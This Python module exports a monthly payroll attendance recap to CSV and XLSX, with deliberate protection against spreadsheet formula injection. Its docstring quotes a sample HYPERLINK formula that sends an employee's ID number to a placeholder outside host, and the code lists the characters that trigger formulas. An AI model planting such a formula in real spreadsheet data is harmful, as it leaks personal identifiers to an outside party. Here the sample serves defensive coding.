"""The monthly recap as payroll takes it: CSV and XLSX with the same columns in the same order.

Layout (one header row, then one row per employee, sorted by unit then name):
No, NIP, Nama, Jabatan, Unit, TL1..TL4, PSW1..PSW4, TK, Potongan (%), Menit Aktivitas, Nilai (%).
The NIP is always text (18 digits would lose their tail as a spreadsheet number); percentages are
numbers with two decimals. The CSV is UTF-8 with a byte-order mark so spreadsheet programs read names
with their accents right.

Safe to open (OWASP, "CSV Injection"): a name, position or unit is whatever an administrator (or an
import file) typed, and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (tab and CR
too) as a formula: `=HYPERLINK("http://x/?"&B2,"Citra")` sends the row's NIP away on a click. In the
XLSX every text cell is a string cell (never openpyxl's formula type) with Excel's quote prefix, so the
value is exactly the name and stays text even when someone edits the cell. In the CSV, which has no
types, such a text field gets a leading single quote, as OWASP advises. Our own numbers are never
touched.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import date
from typing import Protocol

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CODES = ("TL1", "TL2", "TL3", "TL4", "PSW1", "PSW2", "PSW3", "PSW4", "TK")
HEADER = ("No", "NIP", "Nama", "Jabatan", "Unit", *CODES, "Potongan (%)", "Menit Aktivitas", "Nilai (%)")
# What makes a spreadsheet read a cell as a formula (OWASP), and NUL (ASVS 1.2.10).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")


def csv_text(value: str) -> str:
    """A text field as a spreadsheet will read it: text, never a formula."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


class RecapLine(Protocol):
    nip: str
    name: str
    unit_code: str
    position: str
    counts: dict[str, int]
    deduction_bp: int
    activity_minutes: int
    score_bp: int


def _ordered(rows: Sequence[RecapLine]) -> list[RecapLine]:
    return sorted(rows, key=lambda r: (r.unit_code, r.name.casefold(), r.nip))


# A member of a unit-month being rescored with no stored result yet (server/services/recap.py): no figures,
# never zeros a payroll clerk would take for a month of perfect attendance.
NOT_SCORED = "belum dihitung"


def _figures(row: RecapLine) -> list[object]:
    if not getattr(row, "scored", True):
        return [None] * (len(CODES) + 2) + [NOT_SCORED]
    return [
        *(row.counts.get(code, 0) for code in CODES),
        round(row.deduction_bp / 100, 2),
        row.activity_minutes,
        round(row.score_bp / 100, 2),
    ]


def recap_table(rows: Sequence[RecapLine]) -> list[list[object]]:
    return [
        [number, row.nip, row.name, row.position, row.unit_code, *_figures(row)]
        for number, row in enumerate(_ordered(rows), 1)
    ]


def _csv_field(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.2f}"
    return csv_text(value) if isinstance(value, str) else value


def recap_csv(rows: Sequence[RecapLine], month: date) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADER)
    for line in recap_table(rows):
        writer.writerow([_csv_field(value) for value in line])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def recap_xlsx(rows: Sequence[RecapLine], month: date) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = f"Rekap {month:%Y-%m}"
    sheet.append(list(HEADER))
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for line in recap_table(rows):
        sheet.append([_xlsx_text(value) if isinstance(value, str) else value for value in line])
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                # openpyxl makes any str starting with "=" a formula; a string cell is text whatever it holds.
                cell.data_type = "s"
                cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
    for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2):
        cell.number_format = "@"  # NIP as text
    for column in ("O", "Q"):  # Potongan (%), Nilai (%)
        for (cell,) in sheet.iter_rows(min_row=2, min_col=ord(column) - 64, max_col=ord(column) - 64):
            cell.number_format = "0.00"
    sheet.freeze_panes = "C2"
    for letter, width in (("B", 21), ("C", 30), ("D", 24), ("E", 16)):
        sheet.column_dimensions[letter].width = width
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_text(value: str) -> str:
    """A control character a name was stored with before input refused them (openpyxl will not write it,
    and the whole export would fail) is shown as U+FFFD."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
